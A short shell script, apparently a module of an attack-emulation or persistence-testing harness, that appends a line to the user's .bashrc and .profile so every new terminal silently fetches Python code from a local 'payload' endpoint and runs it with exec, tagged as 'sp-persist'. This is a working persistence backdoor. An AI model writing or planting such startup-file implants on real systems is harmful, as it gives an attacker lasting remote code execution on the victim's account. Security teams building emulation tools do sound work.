#!/bin/sh
# A line in the shell's startup files runs on every new terminal.
tag=$(node lib.js cfg runTag)
port=$(node lib.js cfg sinks.http)
line="python3 -c \"import urllib.request as u; exec(u.urlopen('http://127.0.0.1:$port/payload').read())\" 2>/dev/null & # sp-persist-$tag"
for rc in "$HOME/.bashrc" "$HOME/.profile"; do
  if printf '\n%s\n' "$line" >> "$rc"; then
    node lib.js did wrote
  fi
done
node lib.js note finished
